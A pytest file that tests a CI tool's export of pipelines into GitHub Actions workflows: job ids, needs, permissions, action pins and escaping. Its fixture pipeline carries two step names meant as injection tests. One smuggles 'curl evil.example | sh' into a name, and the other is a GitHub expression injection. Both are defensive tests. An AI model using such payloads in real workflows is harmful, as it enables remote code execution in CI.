"""`export github-workflow`: a pipeline as a workflow that GitHub's schema and zizmor accept, with
valid job ids and `needs:` mirroring the DAG."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from ci_orchestrator.__about__ import __version__
from ci_orchestrator.config import Pipeline, load_pipeline
from ci_orchestrator.errors import UsageError
from ci_orchestrator.github.export import (
    JOB_ID,
    ExportOptions,
    github_workflow,
    job_ids,
    limitations,
)
from ci_orchestrator.github.export_cli import export, workflow_target
from tests.conftest import assert_golden
from tests.test_action import check_jsonschema, load_yaml, serious, summarize, zizmor_findings

Write = Callable[[str, str], Path]

ROOT = Path(__file__).parent.parent
# What the CLI passes by default: the exporting version (export_cli.DEFAULT_INSTALL); a fixed one
# here, so that a release does not change the golden file.
INSTALL = "ci-orchestrator==0.1.0"
OPTIONS = ExportOptions("pipeline.yml", "3.12", INSTALL)

AWKWARD = """
version: 1
name: awkward
steps:
  unit tests: {run: echo unit}
  unit-tests: {run: echo dashed}
  a.b: {run: echo dot}
  a-b: {run: echo dash, needs: [a.b]}
  a_b: {run: echo underscore, needs: [a-b, unit tests]}
  1st: {run: echo first}
  Build: {run: echo Build}
  build: {run: echo build, needs: [Build, 1st]}
  report: {run: echo a step called report}
  '"; curl evil.example | sh; echo "': {run: echo quoted}
  '${{ github.event.pull_request.title }}': {run: 'echo ${{ github.event.issue.title }}'}
  cleanup: {run: echo cleanup, needs: [build], when: always}
  notify: {run: echo notify, needs: [build], when: failure}
"""


def export_text(write: Write, text: str, options: ExportOptions = OPTIONS) -> str:
    return github_workflow(load_pipeline(write("pipeline.yml", text)), options)


def export_yaml(write: Write, text: str, tmp_path: Path) -> tuple[Pipeline, dict[str, Any]]:
    pipeline = load_pipeline(write("pipeline.yml", text))
    path = tmp_path / "workflow.yml"
    path.write_text(github_workflow(pipeline, OPTIONS))
    workflow: dict[str, Any] = load_yaml(path)
    return pipeline, workflow


def as_github_reads(text: str) -> str:
    """A string after GitHub evaluated the one expression the exporter writes into literals."""
    return text.replace("${{ '${{' }}", "${{")


def step_jobs(workflow: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The jobs that run steps, by the step name they carry."""
    jobs = workflow["jobs"].values()
    return {as_github_reads(job["name"]): job for job in jobs if job["name"] != "Report"}


def job_names(workflow: dict[str, Any]) -> dict[str, str]:
    """Job id -> the name GitHub shows."""
    return {job_id: as_github_reads(job["name"]) for job_id, job in workflow["jobs"].items()}


def test_golden_demo() -> None:
    pipeline = load_pipeline(ROOT / "examples" / "demo.yml")
    text = github_workflow(pipeline, ExportOptions("examples/demo.yml", "3.12", INSTALL))
    assert_golden("export_demo.yml", text)


def test_demo_workflow_passes_the_schema_and_zizmor(tmp_path: Path) -> None:
    path = tmp_path / "demo.yml"
    path.write_text((ROOT / "tests" / "golden" / "export_demo.yml").read_text())
    done = check_jsonschema("vendor.github-workflows", path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert summarize(zizmor_findings(path)) == []


def test_awkward_workflow_passes_the_schema_and_zizmor(write: Write, tmp_path: Path) -> None:
    path = tmp_path / "awkward.yml"
    path.write_text(export_text(write, AWKWARD))
    done = check_jsonschema("vendor.github-workflows", path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert serious(zizmor_findings(path)) == []


def test_job_ids_are_valid_unique_and_keep_the_names(write: Write, tmp_path: Path) -> None:
    pipeline, workflow = export_yaml(write, AWKWARD, tmp_path)
    ids = list(workflow["jobs"])
    assert all(JOB_ID.match(job_id) for job_id in ids)
    assert len({job_id.lower() for job_id in ids}) == len(ids)
    assert sorted(step_jobs(workflow)) == sorted(pipeline.steps)
    by_name = {name: job_id for job_id, name in job_names(workflow).items()}
    assert by_name["unit-tests"] == "unit-tests"  # a valid id is kept...
    assert by_name["unit tests"] == "unit-tests-2"  # ...and a name mapped onto it moves aside
    assert (by_name["a-b"], by_name["a_b"], by_name["a.b"]) == ("a-b", "a_b", "a-b-2")
    assert by_name["1st"] == "step-1st"
    assert (by_name["Build"], by_name["build"]) == ("Build", "build-2")
    assert by_name["report"] == "report"
    assert by_name["Report"] == "report-2"  # the last job, out of the steps' way


def test_job_ids_of_names_with_nothing_usable() -> None:
    assert job_ids(["!!!", "???", "-", "ünï"]) == {
        "!!!": "step",
        "???": "step-2",
        "-": "step-3",
        "ünï": "n",
    }


def test_needs_mirror_the_dag(write: Write, tmp_path: Path) -> None:
    pipeline, workflow = export_yaml(write, AWKWARD, tmp_path)
    name_of = job_names(workflow)
    for name, job in step_jobs(workflow).items():
        assert [name_of[need] for need in job.get("needs", [])] == list(pipeline.steps[name].needs)
    report = workflow["jobs"]["report-2"]
    assert [name_of[need] for need in report["needs"]] == list(pipeline.steps)
    assert report["if"] == "always()"


def test_when_becomes_the_jobs_if(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, AWKWARD, tmp_path)
    jobs = step_jobs(workflow)
    assert jobs["cleanup"]["if"] == "always()"
    assert jobs["notify"]["if"] == "failure()"
    assert "if" not in jobs["build"]


def test_each_job_runs_its_step_alone_and_uploads_its_journal(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, AWKWARD, tmp_path)
    for job_id, job in workflow["jobs"].items():
        if job["name"] == "Report":
            continue
        checkout, _, install, run, upload = job["steps"]
        assert checkout["with"] == {"persist-credentials": False}
        assert shlex.split(install["run"]) == ["python", "-m", "pip", "install", INSTALL]
        assert shlex.split(as_github_reads(run["run"])) == [
            "ci-orchestrator", "run", "pipeline.yml", "--only", job_names(workflow)[job_id],
            "--no-deps",
            "--journal", f"journal-{job_id}.db",
            "--run-id", "gh-$GITHUB_RUN_ID-$GITHUB_RUN_ATTEMPT",
        ]  # fmt: skip
        assert upload["if"] == "always()"
        assert upload["uses"].startswith("actions/upload-artifact@")
        assert upload["with"]["path"] == f"journal-{job_id}.db"


def test_a_step_name_cannot_become_an_expression(write: Write) -> None:
    text = export_text(write, AWKWARD)
    escaped = "${{ '${{' }} github.event.pull_request.title }}"
    assert f"name: {escaped}\n" in text
    assert f"name: Run {escaped}\n" in text
    assert f"--only '{escaped}' --no-deps" in text
    assert "${{ github.event." not in text


def test_permissions_are_minimal(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, AWKWARD, tmp_path)
    assert workflow["permissions"] == {"contents": "read"}
    assert workflow["jobs"]["report-2"]["permissions"] == {
        "contents": "read",
        "pull-requests": "write",
    }
    assert all("permissions" not in job for job in step_jobs(workflow).values())


def test_report_job_merges_the_journals_and_reports(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, "version: 1\nsteps:\n  only: {run: 'true'}\n", tmp_path)
    report = workflow["jobs"]["report"]
    steps = {step.get("name", step.get("uses")): step for step in report["steps"]}
    download = steps["Download the journals"]
    assert download["uses"].startswith("actions/download-artifact@")
    assert download["with"] == {"pattern": "journal-*", "path": "journals", "merge-multiple": True}
    merge = steps["Merge the journals"]["run"]
    assert 'ci-orchestrator journal export --journal "$db"' in merge
    assert 'ci-orchestrator journal import "${exports[@]}"' in merge
    written = steps["Write JUnit XML and the job summary"]["run"]
    assert "ci-orchestrator report --junit ci-orchestrator-junit.xml" in written
    assert 'ci-orchestrator report --format markdown >> "$GITHUB_STEP_SUMMARY"' in written
    comment = steps["Comment on the pull request"]
    assert comment["run"] == "ci-orchestrator comment"
    assert comment["if"].endswith("&& github.event.pull_request")


def test_pins(write: Write) -> None:
    by_sha = export_text(write, AWKWARD)
    assert "uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n" in by_sha
    by_tag = export_text(write, AWKWARD, ExportOptions("pipeline.yml", "3.11", INSTALL, "tag"))
    assert "uses: actions/checkout@v4\n" in by_tag
    assert "uses: actions/download-artifact@v4\n" in by_tag
    assert "python-version: '3.11'" in by_tag


def test_limitations() -> None:
    notes = limitations(load_pipeline(ROOT / "examples" / "demo.yml"))
    assert len(notes) == 1
    assert notes[0].startswith("step 'setup' hands values on through $CI_ORCHESTRATOR_OUTPUT")


def test_limitations_of_conditions_and_failure_handlers(write: Write) -> None:
    pipeline = load_pipeline(
        write(
            "pipeline.yml",
            """
            version: 1
            steps:
              deploy: {run: ./deploy, if: 'test -n "$DEPLOY"'}
              smoke: {run: ./smoke, needs: [deploy]}
              notify: {run: ./notify, needs: [smoke], when: failure}
            """,
        )
    )
    notes = limitations(pipeline)
    assert [note.split(" ", 2)[1] for note in notes] == ["'deploy'", "'notify'"]


def test_cli_prints_or_writes_the_workflow(write: Write, tmp_path: Path) -> None:
    write(".ci-orchestrator.yml", "version: 1\nname: shop\nsteps:\n  lint: {run: echo lint}\n")
    result = CliRunner().invoke(export, ["github-workflow"], catch_exceptions=False)
    assert result.exit_code == 0
    assert result.stdout.startswith(
        "# Generated by `ci-orchestrator export github-workflow .ci-orchestrator.yml`"
    )
    assert "ci-orchestrator run .ci-orchestrator.yml --only lint --no-deps" in result.stdout
    out = tmp_path / ".github" / "workflows" / "pipeline.yml"
    result = CliRunner().invoke(
        export,
        [
            "github-workflow",
            str(tmp_path / ".ci-orchestrator.yml"),
            "-o",
            str(out),
            "--install",
            ".",
        ],
        catch_exceptions=False,
    )
    assert result.exit_code == 0
    assert result.stdout == ""
    assert f"wrote {out}" in result.stderr
    assert "run: python -m pip install .\n" in out.read_text()


def test_cli_jobs_install_the_exporting_version_by_default(write: Write, tmp_path: Path) -> None:
    write("pipeline.yml", "version: 1\nname: shop\nsteps:\n  lint: {run: echo lint}\n")
    out = tmp_path / "workflow.yml"
    CliRunner().invoke(export, ["github-workflow", "pipeline.yml", "-o", str(out)])
    workflow = load_yaml(out)
    installs = [
        step["run"]
        for job in workflow["jobs"].values()
        for step in job["steps"]
        if step.get("name") == "Install ci-orchestrator"
    ]
    assert installs == [f"python -m pip install ci-orchestrator=={__version__}"] * 2


def test_cli_warns_about_what_does_not_cross_jobs(tmp_path: Path) -> None:
    (tmp_path / "demo.yml").write_text((ROOT / "examples" / "demo.yml").read_text())
    result = CliRunner().invoke(export, ["github-workflow", "demo.yml"], catch_exceptions=False)
    assert result.exit_code == 0
    assert result.stderr.startswith("warning: step 'setup' hands values on")


def test_cli_exports_a_template() -> None:
    result = CliRunner().invoke(export, ["github-workflow", "ci_cd"], catch_exceptions=False)
    assert result.exit_code == 0
    assert "ci-orchestrator run ci_cd --only deploy --no-deps" in result.stdout
    assert result.stderr == ""


def test_cli_refuses_a_pipeline_outside_the_repository() -> None:
    result = CliRunner().invoke(export, ["github-workflow", str(ROOT / "examples" / "demo.yml")])
    assert isinstance(result.exception, UsageError)
    assert "run the export from the repository root" in str(result.exception)


def test_workflow_target(tmp_path: Path) -> None:
    assert workflow_target("ci/pipeline.yml", tmp_path) == "ci/pipeline.yml"
    assert workflow_target("ci_cd", tmp_path) == "ci_cd"
    assert workflow_target(str(tmp_path / "ci" / "p.yml"), tmp_path) == "ci/p.yml"
    with pytest.raises(UsageError, match="run the export from the repository root"):
        workflow_target("/elsewhere/p.yml", tmp_path)
